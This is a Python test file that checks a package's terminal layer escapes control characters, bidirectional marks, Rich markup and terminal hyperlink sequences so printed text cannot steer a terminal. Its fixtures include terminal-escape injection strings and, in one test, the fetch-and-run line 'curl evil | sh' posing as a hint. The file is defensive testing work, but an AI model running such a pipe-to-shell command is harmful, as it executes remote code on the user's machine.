"""What is printed cannot steer a terminal, whoever wrote it."""

import io
import re
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.table import Table

import ddib_fed
from ddib_fed.terminal import console, drawing, escape, say_labelled

ROOT = Path(ddib_fed.__file__).parents[1]
# One of each kind: C0, DEL, C1, directions, no width, separators, a surrogate, a tag, a private one.
STEERING = (
    "\0\a\b\t\n\r\x1b\x7f\x85\x9b\x9d\u061c\u200b\u200e\u200f\u2028\u2029\u202a\u202e\u2066\u2069\ufeff"
    "\udc9b\U000e0041\ue000"
)


@pytest.mark.parametrize("character", STEERING, ids=ascii)
def test_what_steers_becomes_an_escape(character: str) -> None:
    assert escape(f"a{character}b") == f"a{character.encode('unicode_escape').decode()}b"


@given(st.text(st.characters(codec=None)))
def test_every_text_becomes_printable_and_stays_so(text: str) -> None:
    shown = escape(text)
    assert shown.isprintable()
    assert escape(shown) == shown
    assert (shown == text) == text.isprintable()


def test_further_lines_of_an_error_are_indented(capsys: pytest.CaptureFixture[str]) -> None:
    """A configuration's error has several; none of them can pass for a hint of ours."""
    say_labelled("error: ", "node.toml cannot be used:\n  seed: \x1b\n  try:  curl evil | sh")
    assert capsys.readouterr().err.split("\n") == [
        "error: node.toml cannot be used:", "        seed: \\x1b", "        try:  curl evil | sh", "",
    ]  # fmt: skip


HOSTILE = "[red]x[/red] [link=http://x]y[/link] [/] :skull: \x1b]8;;http://x\x07\nz"
SHOWN = "[red]x[/red] [link=http://x]y[/link] [/] :skull: \\x1b]8;;http://x\\x07\\nz"


def test_tables_show_markup_links_and_emoji_codes_as_they_are(capsys: pytest.CaptureFixture[str]) -> None:
    table = Table(title=HOSTILE)
    table.add_column(HOSTILE)
    table.add_row(HOSTILE)
    console().print(table)
    console().print(HOSTILE)
    out = capsys.readouterr().out
    assert out.count(SHOWN) == 4
    assert "\x1b" not in out


def test_progress_bars_do_too(monkeypatch: pytest.MonkeyPatch) -> None:
    """A file's name stands in them: `[/]` would end the program, and a link would be one."""
    terminal = io.StringIO()
    monkeypatch.setattr(terminal, "isatty", lambda: True)
    monkeypatch.setattr(sys, "stderr", terminal)
    with drawing("{task.description}", "{task.fields[remark]}", transient=True) as bar:
        bar.console.width = 400
        bar.add_task(HOSTILE, remark=f"remark {HOSTILE}")
    assert SHOWN in terminal.getvalue()
    assert f"remark {SHOWN}" in terminal.getvalue()
    assert "\x1b]" not in terminal.getvalue()


def test_nothing_is_printed_past_it() -> None:
    others = re.compile(
        r"click\.(?:s?echo|secho|confirm|prompt|style|echo_via_pager)\b|(?<![\w.`])print\(|\bprint_exc|std(?:out|err)\.write"
        r"|\bTextColumn\(|\bConsole\(|error\.show\("
    )
    found = [
        f"{path.relative_to(ROOT)}: {line.strip()}"
        for folder in ("ddib_fed", "source_node", "target_node")
        for path in sorted((ROOT / folder).rglob("*.py"))
        if path.name != "terminal.py"
        for line in path.read_text().splitlines()
        if others.search(line) and not line.lstrip().startswith((">>> ", "... "))  # an example in a docstring
    ]
    assert found == ["ddib_fed/cli/options.py: return bool(click.confirm(escape(question), default=False))"]
